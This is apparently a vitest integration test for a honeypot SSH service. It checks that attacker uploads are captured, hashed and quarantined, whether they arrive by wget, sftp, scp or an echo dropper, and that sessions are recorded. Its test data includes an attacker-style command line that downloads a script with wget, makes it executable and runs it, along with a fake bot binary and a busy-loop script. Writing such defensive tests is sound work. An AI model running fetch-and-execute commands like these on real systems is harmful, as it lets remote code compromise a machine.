import { spawn } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { chmod, readFile, stat, writeFile } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sshService } from '../../../../agent/services/shell/ssh';
import { eventually } from '../../../helpers/eventually';
import { makeTmpDir } from '../../../helpers/tmp-dir';
import { sshPasswordFlags } from '../../../helpers/ssh-client';
import { run, startService, type ServiceHarness } from '../service-harness';

/**
 * Payload capture with real OpenSSH clients against a decky whose ssh really fetches: the attack
 * script's wget gets the payload from a loopback HTTP server (allowed only by the test-only
 * DECNET_FETCH_ALLOW_LOOPBACK), sftp, scp (sftp mode and the legacy -O protocol) and an `echo >`
 * dropper are captured; every artifact is in the quarantine once, mode 0600, with its SHA-256.
 */
const ip = '127.0.10.9';
const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
const script = '#!/bin/sh\necho pwned from the payload\n';

describe('payload capture over real OpenSSH sessions', () => {
  let h: ServiceHarness;
  let tmp: { dir: string; remove: () => Promise<void> };
  let server: http.Server;
  let port = 0;
  const requests: string[] = [];
  const before = process.env.DECNET_FETCH_ALLOW_LOOPBACK;
  const env = () => ({ SSH_ASKPASS: join(tmp.dir, 'askpass'), SSH_ASKPASS_REQUIRE: 'force', DISPLAY: ':0' });
  const artifacts = () => h.ofKind('artifact');
  const quarantined = (hash: string) => join(h.dataDir, 'quarantine', hash);

  beforeAll(async () => {
    tmp = await makeTmpDir('decnet-payloads-');
    await writeFile(join(tmp.dir, 'askpass'), "#!/bin/sh\necho 'toor'\n");
    await chmod(join(tmp.dir, 'askpass'), 0o755);
    server = http.createServer((req, res) => {
      requests.push(req.url ?? '');
      if (req.url === '/x.sh') return res.end(script);
      res.statusCode = 404;
      res.end('nope');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
    process.env.DECNET_FETCH_ALLOW_LOOPBACK = '1';
    h = await startService(
      sshService,
      { ip, distro: 'debian', serviceConfig: { ssh: { users: 'root:toor', fetch: true } } },
      { dataDir: join(tmp.dir, 'data') },
    );
  });
  afterAll(async () => {
    if (before === undefined) delete process.env.DECNET_FETCH_ALLOW_LOOPBACK;
    else process.env.DECNET_FETCH_ALLOW_LOOPBACK = before;
    await h?.stop();
    await new Promise((resolve) => server.close(resolve));
    await tmp.remove();
  });

  it('really fetches the attack script’s wget, runs the payload in the emulated shell and quarantines it', async () => {
    const url = `http://127.0.0.1:${port}/x.sh`;
    const line = `uname -a; cd /tmp; wget ${url}; chmod +x x.sh; ./x.sh; crontab -l`;
    const r = await run('ssh', [...sshPasswordFlags, `root@${ip}`, line], { env: env() });
    expect(requests).toEqual(['/x.sh']);
    expect(r.stdout).toMatch(/^Linux \S+ /);
    expect(r.stdout).toContain('pwned from the payload\n');
    expect(r.stderr).toContain(`‘x.sh’ saved [${script.length}/${script.length}]`);
    expect(r.stderr).toContain('no crontab for root');
    const ev = await eventually(() => artifacts().find((a) => a.data.channel === 'wget'));
    expect(ev.data).toMatchObject({
      source: url,
      path: '/tmp/x.sh',
      sha256: sha(script),
      size: script.length,
      fileType: 'shell-script',
      stored: 'new',
      user: 'root',
    });
    expect(typeof ev.data.session).toBe('string');
    expect(await readFile(quarantined(sha(script)), 'utf8')).toBe(script);
    expect((await stat(quarantined(sha(script)))).mode & 0o777).toBe(0o600);
    const cmd = h.ofKind('command').find((c) => c.data.command === line);
    expect(cmd?.data.session).toBe(ev.data.session);
  });

  it('refuses a non-public address even with loopback allowed, answering as wget does', async () => {
    const r = await run('ssh', [...sshPasswordFlags, `root@${ip}`, 'wget http://10.255.0.1/y.sh; echo $?'], {
      env: env(),
    });
    expect(r.stderr).toContain('Connecting to 10.255.0.1 (10.255.0.1)|10.255.0.1|:80... failed: Connection refused.');
    expect(r.stdout).toBe('4\n');
    const ev = await eventually(() => artifacts().find((a) => a.data.fetchFailed === 'refused-address'));
    expect(ev.data.source).toBe('http://10.255.0.1/y.sh');
  });

  it('captures an sftp upload with its hash and lists it back', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), randomBytes(70_000)]);
    await writeFile(join(tmp.dir, 'bot.elf'), elf);
    // Commands on stdin, not -b (batch mode turns password authentication off).
    const r = await run('sftp', [...sshPasswordFlags, `root@${ip}`], {
      env: env(),
      input: `put ${join(tmp.dir, 'bot.elf')} /tmp/bot\nls -l /tmp/bot\n`,
    });
    expect(r.stderr).toBe(`Connected to ${ip}.\n`);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/-rw-r--r-- +\? 0 +0 +70007 .* \/tmp\/bot\n/);
    const ev = await eventually(() => artifacts().find((a) => a.data.channel === 'sftp'));
    expect(ev.data).toMatchObject({ path: '/tmp/bot', sha256: sha(elf), size: elf.length, fileType: 'elf' });
    expect(Buffer.compare(await readFile(quarantined(sha(elf))), elf)).toBe(0);
  });

  it('captures scp uploads in both protocols (sftp mode and the legacy scp -t sink)', async () => {
    const a = randomBytes(5_000);
    const b = Buffer.from('#!/bin/bash\nwhile :; do :; done\n');
    await writeFile(join(tmp.dir, 'a.bin'), a);
    await writeFile(join(tmp.dir, 'b.sh'), b);
    const viaSftp = await run('scp', [...sshPasswordFlags, join(tmp.dir, 'a.bin'), `root@${ip}:/tmp/`], {
      env: env(),
      timeoutMs: 10_000,
    });
    expect(viaSftp.stderr + viaSftp.stdout).toBe('');
    expect(viaSftp.code).toBe(0);
    const legacy = await run('scp', ['-O', ...sshPasswordFlags, join(tmp.dir, 'b.sh'), `root@${ip}:/tmp/`], {
      env: env(),
      timeoutMs: 10_000,
    });
    expect(legacy.stderr).toBe('');
    expect(legacy.code).toBe(0);
    const ea = await eventually(() => artifacts().find((x) => x.data.sha256 === sha(a)));
    expect(ea.data).toMatchObject({ channel: 'sftp', path: '/tmp/a.bin', fileType: 'data' });
    const eb = await eventually(() => artifacts().find((x) => x.data.sha256 === sha(b)));
    expect(eb.data).toMatchObject({ channel: 'scp', path: '/tmp/b.sh', fileType: 'shell-script', stored: 'new' });
    expect((await stat(quarantined(sha(b)))).mode & 0o777).toBe(0o600);
  });

  it('sweeps an echo dropper at session end, once per hash', async () => {
    const body = 'dropped by echo';
    for (let i = 0; i < 2; i++)
      await run('ssh', [...sshPasswordFlags, `root@${ip}`, `echo '${body}' > /tmp/d.sh; chmod 755 /tmp/d.sh`], {
        env: env(),
      });
    const evs = await eventually(() => {
      const got = artifacts().filter((x) => x.data.channel === 'fs' && x.data.path === '/tmp/d.sh');
      return got.length === 2 && got;
    });
    expect(evs.map((e) => e.data.stored)).toEqual(['new', 'known']);
    expect(evs[0]!.data.sha256).toBe(sha(`${body}\n`));
  });

  it('records an interactive pty session as an asciinema v2 cast with its keystrokes and timing', async () => {
    const child = spawn('ssh', ['-tt', ...sshPasswordFlags, `root@${ip}`], {
      env: { ...process.env, ...env() },
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    const exited = new Promise<number | null>((resolve) => child.on('close', resolve));
    const type = async (line: string, until: string) => {
      const from = out.length;
      child.stdin.write(line + '\n');
      await eventually(() => out.slice(from).includes(until), { what: line });
    };
    await eventually(() => out.includes(':~# '), { what: 'prompt' });
    await type('echo cast-marker-1', 'cast-marker-1\r\n');
    await type('id', 'uid=0(root)');
    await type('exit', 'logout');
    expect(await exited).toBe(0);
    const ev = await eventually(() => h.ofKind('recording')[0]);
    expect(ev.data).toMatchObject({ fileType: 'asciicast', stored: 'new', truncated: false, user: 'root' });
    const cast = await readFile(join(h.dataDir, 'recordings', String(ev.data.sha256)), 'utf8');
    expect(sha(cast)).toBe(ev.data.sha256);
    const [header, ...lines] = cast
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    expect(header).toMatchObject({ version: 2, width: expect.any(Number), height: expect.any(Number) });
    const events = lines as [number, string, string][];
    // Every keystroke the client sent, in order; what the terminal showed includes the echo and output.
    expect(
      events
        .filter((e) => e[1] === 'i')
        .map((e) => e[2])
        .join(''),
    ).toBe('echo cast-marker-1\nid\nexit\n');
    const shown = events
      .filter((e) => e[1] === 'o')
      .map((e) => e[2])
      .join('');
    expect(shown).toContain('root@');
    expect(shown).toContain('echo cast-marker-1\r\ncast-marker-1\r\n');
    expect(shown).toContain('uid=0(root) gid=0(root) groups=0(root)');
    const times = events.map((e) => e[0]);
    expect([...times].sort((a, b) => a - b)).toEqual(times);
    expect(times[times.length - 1]).toBe(ev.data.duration);
    // The command events of the session carry the same session id as its recording.
    const cmds = h
      .ofKind('command')
      .filter((c) => c.data.session === ev.data.session)
      .map((c) => c.data.command);
    expect(cmds).toEqual(expect.arrayContaining(['echo cast-marker-1', 'id', 'exit']));
  });
});
